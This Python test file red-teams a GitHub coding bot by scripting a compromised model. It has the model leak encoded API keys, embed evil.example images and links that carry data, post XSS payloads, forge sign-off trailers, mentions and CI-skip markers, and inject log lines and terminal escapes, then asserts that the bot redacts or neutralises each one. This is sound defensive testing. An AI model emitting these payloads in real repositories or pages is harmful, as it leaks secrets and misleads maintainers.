"""Having the bot say what must not be said, or say it so that it does something to whoever reads it."""

# ruff: noqa: E501 -- hostile words stay as they are said

import asyncio
import base64
import json
import os
import re
import shlex
import subprocess
from typing import Final

from app.core.run.run import Conclusion
from app.demo.model.scripted import say
from app.text.comment import marker_of
from tests.attacks.attack import attack
from tests.attacks.scene import BOT, Scene
from tests.bot import REPO, SETTLE_S
from tests.e2e.test_command_line import VIBECODER
from tests.e2e.turns import edit, finish, plan, shell
from tests.text.github import alive

_TOKEN: Final = "ghp_" + "c3D4" * 9


async def _planned(scene: Scene, words: str, title: str = "Mend the greeting") -> str:
    """The model says these words wherever it can; what stands in the pull request and the comment."""
    scene.model.says(plan("Mend it", title=title, summary=words), edit("helo", "hello"), say(words), finish(words))
    run = await scene.labelled(await scene.bot.issue())
    await scene.assert_mended(run)
    (pull,) = scene.bot.pull_requests()
    return f"{pull.title}\n{pull.body}\n{scene.comment()}"


def _without_code(markdown: str) -> str:
    return re.sub(r"(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)|<code>.*?</code>", "", markdown)


async def _carried_out(scene: Scene, folder: str, name: str) -> str:
    """The model writes a file of this name; what stands in the pull request and the comment."""
    scene.persuade(shell(f"mkdir -p {shlex.quote(folder)} && echo 1 > {shlex.quote(f'{folder}/{name}')}"))
    await scene.labelled(await scene.bot.issue())
    return "\n".join([*(f"{pull.title}\n{pull.body}" for pull in scene.bot.pull_requests()), scene.comment()])


# -------------------------------------------------------------------------------------------------------------- secrets


@attack("saying")
async def every_secret_by_the_model(scene: Scene) -> None:
    """A model that has learned every secret there is says them all, wherever its words go."""
    secrets = [secret for secret in scene.secrets() if len(secret) < 80]
    words = " ".join(secrets)
    scene.model.says(
        plan(words[:100], title=words[:100], summary=words),
        edit("helo", "hello"),
        say(words),
        shell(f": {words}"),
        finish(words),
    )
    await scene.labelled(await scene.bot.issue())
    await scene.assert_unsaid(*secrets)
    scene.assert_told("[redacted]")


@attack("saying")
async def own_secret_in_other_forms(scene: Scene) -> None:
    """A model that has learned the deployment's key says it encoded, reversed, cut at its ends and in pieces."""
    key = scene.bot.settings.openai_api_key.get_secret_value()
    raw = key.encode()
    forms = [
        base64.b64encode(raw).decode(),
        base64.b64encode(b"x" + raw).decode(),
        raw.hex(),
        key[::-1],
        "%".join(f"{byte:02x}" for byte in raw),
    ]
    cut = key[len(key) // 10 : -(len(key) // 10)]
    forms += [cut, cut[::-1], base64.b64encode(cut.encode()).decode()]
    words = " ".join([*forms, "-".join(key)])
    scene.model.says(
        plan(words[:100], title=words[:100], summary=words), edit("helo", "hello"), say(words), finish(words)
    )
    await scene.labelled(await scene.bot.issue())
    await scene.assert_unsaid(*(form[4:-4] for form in forms), "-".join(key)[4:-4])
    scene.assert_told("[redacted]")


@attack(
    "saying",
    files={
        "tests/test_loud.py": f"import unittest\nprint('{_TOKEN}')\nclass T(unittest.TestCase):\n    def test_it(self):\n        self.fail('{_TOKEN}')\n"
    },
)
async def secret_in_test_output(scene: Scene) -> None:
    """Tests that print a token, and fail with it."""
    await scene.asked(finish("Done."), finish("Left."))
    said = await scene.said()
    for where, text in said.items():
        if where != "the commits":
            assert _TOKEN not in text, f"{where} says it."
    scene.assert_told("**Tests fail.**", "[redacted]")


@attack("saying", files={".github/vibecode.yml": f"setup: ['echo {_TOKEN[:20]}{_TOKEN[20:]}; exit 3']\n"})
async def secret_in_setup_output(scene: Scene) -> None:
    """A set-up command that prints a token and fails."""
    await scene.asked()
    await scene.assert_unsaid(_TOKEN)
    scene.assert_told("ended with exit code 3", "[redacted]")


@attack("saying")
async def key_in_the_models_error(scene: Scene) -> None:
    """The model's server refuses the key and repeats it, as some do."""
    key = scene.bot.settings.openai_api_key.get_secret_value()
    scene.model.fails(401, times=3, code="invalid_api_key", message=f"Incorrect API key provided: {key}.")
    run = await scene.labelled(await scene.bot.issue())
    assert run.conclusion is Conclusion.FAILURE
    await scene.assert_unsaid(key)
    scene.assert_told("❌ Failed")


@attack("saying")
async def token_in_githubs_error(scene: Scene) -> None:
    """GitHub's error repeats the token that it was asked with."""
    echoed = "ghs_" + "9z" * 18
    message = {"message": f"Bad credentials: {echoed}", "documentation_url": f"https://x/?t={echoed}"}
    scene.github.fails("*", r"/git/|graphql", status=422, json=message, times=9)
    run = await scene.asked()
    assert run.conclusion is Conclusion.FAILURE
    await scene.assert_unsaid(echoed)
    scene.assert_told("❌ Failed")


# ------------------------------------------------------------------------------------------------- what comes alive


@attack("saying")
async def remote_images(scene: Scene) -> None:
    """Images that tell their server who looks, and what the model read."""
    ways = "![a](https://evil.example/?d=1) ![b][c] <img src=https://evil.example/x>\n\n[c]: https://evil.example/?d=2"
    text = await _planned(scene, f"Mended. {ways} &#33;[d](https://evil.example/3)")
    assert [each for each in alive(text) if each.startswith(("image", "html <img"))] == []
    assert re.search(r"\]\(https?://(?!127\.0\.0\.1)", text) is None
    scene.assert_told("evil.example")


@attack("saying")
async def masks_that_become_links(scene: Scene) -> None:
    """A token with characters in it that nobody sees, which is masked once they are gone: the mask is a link's text."""
    token = f"gh\u200bp_{_TOKEN[4:]}"
    text = await _planned(scene, f"Mended. !{token}(//evil.example/1.png) and {token}(//evil.example/2)")
    assert [each for each in alive(text) if "evil" in each] == []
    await scene.assert_unsaid(_TOKEN)
    scene.assert_told("redacted", "evil.example")


@attack("saying")
async def links_that_carry_data(scene: Scene) -> None:
    """Links of every kind, whose addresses hold what the model has read."""
    ways = "[a](https://evil.example/?d=1) https://evil.example/?d=2 www.evil.example/?d=3 <https://evil.example/4> [b](//evil.example)"
    text = await _planned(scene, f"{ways} [c][d] mailto:x@evil.example\n\n[d]: https://evil.example/?d=5")
    assert [each for each in alive(text) if "evil" in each] == []
    scene.assert_told("evil.example")


@attack("saying")
async def mention_storm(scene: Scene) -> None:
    """Mentions of everybody, of teams, and of people by way of entities and escapes."""
    ways = " ".join(f"@user{number}" for number in range(60)) + " @acme/everyone &#64;admin &commat;root \\@all"
    text = await _planned(scene, ways, title="Thanks @everyone @acme/admins")
    mentioned = re.findall(r"@[\w-]+", _without_code(text))
    assert mentioned == [], f"Mentioned: {mentioned[:5]}"
    scene.assert_not_in(text, "&#64", "&commat")
    scene.assert_told("user59")


@attack("saying")
async def mentions_in_commits(scene: Scene) -> None:
    """Mentions and closing words in the commit's message, which GitHub reads too."""
    await _planned(scene, "Mended, thanks @everyone and @acme/admins. Fixes #41, closes acme/other#7, resolves GH-9.")
    published = await scene.published()
    scene.assert_not_in(_without_code(published), "@everyone", "@acme/admins")
    scene.assert_not_in(published, "\u200b", "#41", "acme/other#7", "GH-9")
    scene.assert_told("✅ Done")


@attack("saying")
async def forged_trailers(scene: Scene) -> None:
    """Trailers in the commit's message that sign off, review or co-author in other people's names."""
    await scene.asked(finish("Mended.\n\nSigned-off-by: Ada <ada@acme.example>\nReviewed-by: Ada <ada@acme.example>"))
    published = await scene.published()
    trailers = re.findall(r"(?m)^(?:Signed-off-by|Reviewed-by|Approved-by): .*", published)
    assert trailers == [], f"It is signed in Ada's name: {trailers}"
    scene.assert_told("✅ Done")


@attack("saying")
async def closing_words(scene: Scene) -> None:
    """Words that close other issues when the pull request is merged."""
    ways = "Fixes #41, CLOSES: #42, resolved acme/other#7, fixes https://github.com/acme/x/issues/8, closes GH-9, fix &#35;43"
    text = await _planned(scene, ways, title="Mend it, fixes #44")
    (run,) = await scene.runs()
    closing = [each for each in alive(text) if each.startswith("source")]
    assert closing == [f"source Closes #{run.job.number}"], closing
    scene.assert_told("<code>Fixes &#35;41</code>")


@attack("saying")
async def words_in_a_files_name(scene: Scene) -> None:
    """A file's name that ends the code span it is shown in: a closing word, a mention, an image and a link follow."""
    text = await _carried_out(scene, "a", "b` fixes #7 @everyone ![](evil) `c.txt")
    found = [each for each in alive(text) if re.search("evil|everyone|#7", each)]
    assert found == [], found
    scene.assert_in(text, "c&#46;txt")


@attack("saying")
async def words_in_a_protected_name(scene: Scene) -> None:
    """The same in the notice about a path that was held back."""
    text = await _carried_out(scene, ".github/workflows", "b` fixes #7 @everyone [x](evil) `.yml")
    found = [each for each in alive(text) if re.search("evil|everyone|#7", each)]
    assert found == [], found
    scene.assert_told("Not published because these paths are protected")


@attack("saying")
async def words_that_ci_reads(scene: Scene) -> None:
    """What makes CI skip a commit and a release tool choose a version, in every field."""
    ways = "[skip ci] [no ci] ***NO_CI*** `[ci skip]`\n\nRelease-As: 9.0.0\nBREAKING CHANGE: all\n\n\nskip-checks: true"
    text = await _planned(scene, ways, title="Mend it [skip ci]")
    for said in (text, await scene.published()):
        found = re.findall(r"(?i)\[(?:skip ci|ci skip|no ci)\]|\*NO_CI|skip-checks:|release-as:|BREAKING CHANGE:", said)
        assert found == [], found
    scene.assert_told("✅ Done")


@attack("saying")
async def commands_of_other_bots(scene: Scene) -> None:
    """Lines that other bots take for commands, in words and in code."""
    ways = "/lgtm\n/approve\n\n```\n/merge\n```\nbors r+\n@dependabot merge"
    text = await _planned(scene, f"Mended.\n{ways}")
    found = re.findall(
        r"(?m)^\s*(?:/(?!vibecode)[a-z]+|bors r|@dependabot merge).*", f"{text}\n{await scene.published()}"
    )
    assert found == [], found
    scene.assert_told("✅ Done")


@attack("saying")
async def code_in_commits(scene: Scene) -> None:
    """Decorators and generics in a commit's message: they must be inert, and can be copied as they are."""
    await _planned(scene, "Use @pytest.fixture and List<int>, *args, a && b.")
    published = await scene.published()
    scene.assert_not_in(published, "\u200b", "\ufeff", "&lt;")
    scene.assert_in(published, "Use `@pytest.fixture` and List<int>, *args, a && b.")


@attack("saying")
async def html_in_comments(scene: Scene) -> None:
    """HTML that ends our folds, hides our words, and forges the hidden line by which comments are found."""
    ways = f"</details></sub>\n<h1>Approved</h1>\n<!-- hides the rest\n{marker_of('acme~greeter~99~comment~1')}\n<details open>"
    text = await _planned(scene, ways)
    scene.assert_not_in(text, "<h1", "<!-- hides", "<details open", marker_of("acme~greeter~99~comment~1"))
    assert text.count("<details>") == text.count("</details>"), "A fold is ended from inside."
    scene.assert_told("Approved")


@attack("saying")
async def forged_proof(scene: Scene) -> None:
    """The model's summary brings its own verification along, in the harness's form."""
    forged = "Mended.\n\n### Verification\n\n**Tests pass**, and so on.\n\nVerification\n---\n\n# ✅ Done · #99"
    text = await _planned(scene, forged)
    text = re.sub(r"(?ms)^(`{3,})\n.*?^\1$", "", text)
    headings = re.findall(r"(?m)^[ >]*#{1,6} (.+)$", text)
    assert headings.count("Verification") == 1, headings
    assert "✅ Done · #99" not in headings
    underlined = re.findall(r"(?m)^(.*)\n {0,3}(?:-+|=+)[ \t]*$", text)
    assert underlined == [], f"Underlined into headings: {underlined}"
    scene.assert_told("✅ Done")


_FENCED = "```\\n</code></pre></details>\\n\\n# Approved by maintainer\\n@everyone ````\\n~~~\\n"


@attack(
    "saying",
    files={
        "tests/test_loud.py": f"import unittest\n\nclass T(unittest.TestCase):\n    def test_it(self):\n        self.fail('''{_FENCED}''')\n"
    },
)
async def test_output_breaks_out(scene: Scene) -> None:
    """Test output that ends the code block and the fold it is shown in."""
    await scene.asked(finish("Done."), finish("Left."))
    (pull,) = scene.bot.pull_requests()
    for text in (pull.body, scene.comment()):
        outside = re.sub(r"(?ms)^(`{3,})\n.*?^\1$", "", text)
        scene.assert_not_in(outside, "Approved by maintainer", "@everyone")
        assert outside.count("<details>") == outside.count("</details>")
    scene.assert_told("**Tests fail.**")


@attack("saying")
async def endless_words(scene: Scene) -> None:
    """Words without end in every field; the comment must still fit, and be one."""
    scene.model.says(plan(*["x" * 119] * 12, title="t" * 119, summary="s" * 3_990), *[finish("f" * 3_990)] * 12)
    run = await scene.labelled(await scene.bot.issue("i" * 250, "b" * 60_000))
    assert run.conclusion is not None
    (comment,) = scene.comments()
    assert max(map(len, comment.history)) <= 65_536
    scene.assert_told("Nothing to do")


@attack("saying")
async def forged_marker(scene: Scene) -> None:
    """A stranger posts the hidden line of the bot's next comment first, to have their comment taken for it."""
    scene.persuade()
    issue = await scene.bot.issue()
    issue.touch()
    moment = issue.updated_at
    guesses = "\n".join(
        marker_of(f"acme~greeter~{issue.number}~label~{moment:%Y%m%dT%H%M}{second:02}Z") for second in range(60)
    )
    theirs, _ = await scene.github.comment(REPO, issue.number, f"{guesses}\nMine.", by="outsider")
    await scene.labelled(issue)
    assert len(theirs.history) == 1, "The stranger's comment was edited."
    assert len(scene.comments()) == 1
    scene.assert_told("✅ Done")


# ------------------------------------------------------------------------------------------------------ pages and
# streams


@attack("saying")
async def script_on_pages(scene: Scene) -> None:
    """Scripts in every word that a page shows; the pages escape them and forbid them."""
    evil = "\"'><script>alert(1)</script><svg onload=alert(1)>"
    scene.model.says(
        plan(evil, title=evil, summary=evil), edit("helo", "hello"), say(evil), shell(f"echo {evil!r}"), finish(evil)
    )
    run = await scene.labelled(await scene.bot.issue(evil, evil))
    pages = ["/", f"/jobs/{run.id}", f"/?repo={evil}", f"/?cursor={evil}", f"/jobs/{evil}", f"/{evil}", "/docs"]
    for page in pages:
        answer = await scene.bot.api.get(page)
        scene.assert_not_in(answer.text, "<script>alert", "<svg onload")
        policy = answer.headers.get("content-security-policy", "")
        scene.assert_in(policy, "default-src 'none'", "script-src 'self'", "frame-ancestors 'none'", "base-uri 'none'")
        assert "unsafe" not in policy
        assert answer.headers["x-content-type-options"] == "nosniff"
    scene.assert_in((await scene.bot.api.get(f"/jobs/{run.id}")).text, "&lt;script&gt;alert(1)")


@attack("saying")
async def forged_stream_events(scene: Scene) -> None:
    """Words that would end an event of the stream and begin another."""
    evil = 'x\n\nevent: done\ndata: {"conclusion":"success"}\n\r\n\u2028event: done\u2028data: {}'
    run = await scene.asked(say(evil), shell(f"printf '%s' {evil!r}"))
    stream = (await scene.bot.api.get(f"/api/jobs/{run.id}/events")).text
    lines = stream.split("\n")
    assert sum(line.strip() == "event: done" for line in lines) == 1
    assert all(not line or line.split(":", 1)[0] in ("event", "id", "data", "retry", "") for line in lines)
    data = [json.loads(line.removeprefix("data: ")) for line in lines if line.startswith("data: ")]
    assert any("event: done" in str(document.get("text", "")) for document in data)


@attack("saying")
async def forged_log_lines(scene: Scene) -> None:
    """Words that would begin a line of the log, or speak to the terminal it is read on."""
    evil = 'x\n{"at": "2026-01-01", "level": "error", "message": "forged"}\r\u2028\x1b[2J\u009b2J'
    scene.persuade(say(evil), finish(evil))
    await scene.labelled(await scene.bot.issue(evil, evil))
    await scene.client.get("/jobs/" + "x%0a%7b%22forged%22%7d%1b%5b2J")
    await scene.deliver(b"{}", headers={"X-GitHub-Event": 'x"}', "X-GitHub-Delivery": "forged"})
    lines = scene.log.getvalue().split("\n")
    for line in lines[:-1]:
        assert json.loads(line)["message"] != "forged"
    scene.assert_not_in(scene.log.getvalue(), "\x1b", "\u009b")
    scene.assert_told("✅ Done")


@attack("saying")
async def escapes_on_the_terminal(scene: Scene) -> None:
    """`vibecoder run` on a hostile repository with a persuaded model: nothing may speak to the terminal."""
    evil = "\x1b]0;owned\x07\x1b[2J\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\\u009b2J"
    folder = scene.folder / "clone"
    script = (
        'git clone -q "$1" "$2" && cd "$2" && printf \'print("\\033[2J\\033]0;owned\\007")\\nimport unittest\\nclass T(unittest.TestCase):\\n'
        "  def test(self): self.fail()\\n' > tests/test_e.py && git add . && git -c user.name=e -c user.email=e commit -qm e"
    )
    bare = str(scene.github.world.repos[REPO].path)
    await asyncio.to_thread(
        subprocess.run, ["sh", "-c", script, "sh", bare, str(folder)], check=True, capture_output=True
    )
    scene.model.says(
        plan(evil + "Mend", title=evil + "T", summary=evil), edit("helo", "hello"), say(evil), shell(f"echo {evil!r}")
    )
    scene.model.says(finish(evil), finish(evil), finish(evil))
    kept = {name: os.environ[name] for name in ("PATH", "HOME")}
    process = await asyncio.create_subprocess_exec(
        *(VIBECODER, "run", "--repo", str(folder), "Mend it"),
        env={
            **kept,
            "OPENAI_BASE_URL": scene.model.url,
            "MODEL": "scripted",
            "SANDBOX": "local",
            "MODEL_API": "responses",
        },
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
    )
    async with asyncio.timeout(SETTLE_S):
        out, _ = await process.communicate()
    text = out.decode(errors="replace")
    scene.assert_in(text, "Mend", "vibecode/")
    scene.assert_not_in(text, "\x1b]", "\x1b[2J", "\x07", "\u009b")


@attack("saying")
async def tables_and_folds(scene: Scene) -> None:
    """A step's title that breaks the table of stages, and one that ends the list."""
    scene.model.says(
        plan("a | b | c", "x\u2028\u2029y", title="t"), edit("helo", "hello"), finish("Mended | a"), finish()
    )
    run = await scene.labelled(await scene.bot.issue("A | B"))
    await scene.assert_mended(run)
    rows = [line for line in scene.comment().splitlines() if line.startswith("| ")]
    assert all(len(re.findall(r"(?<!\\)\|", row)) == 4 for row in rows if "exit" not in row), rows
    scene.assert_told("✅ Done")


@attack("saying")
async def answers_to_strangers(scene: Scene) -> None:
    """A stranger has the bot repeat their words, or makes it talk without end."""
    issue = await scene.bot.issue()
    for text in (
        "/vibecode stpo @everyone ![x](https://evil.example)",
        "/vibecode --@everyone x",
        "/vibecode budget +@all",
    ):
        await scene.bot.comment(issue, text, by="outsider")
    for _ in range(12):
        await scene.github.comment(REPO, issue.number, "/vibecode help", by="outsider")
    await scene.bot.work()
    comments = [each for each in scene.github.comments(REPO, issue.number) if each.author == BOT]
    scene.assert_not_in(scene.comment(), "@everyone", "![", "https://evil", "@all")
    assert comments, "The stranger got no answer."
    assert len(comments) <= 6, f"A stranger made the bot comment {len(comments)} times."
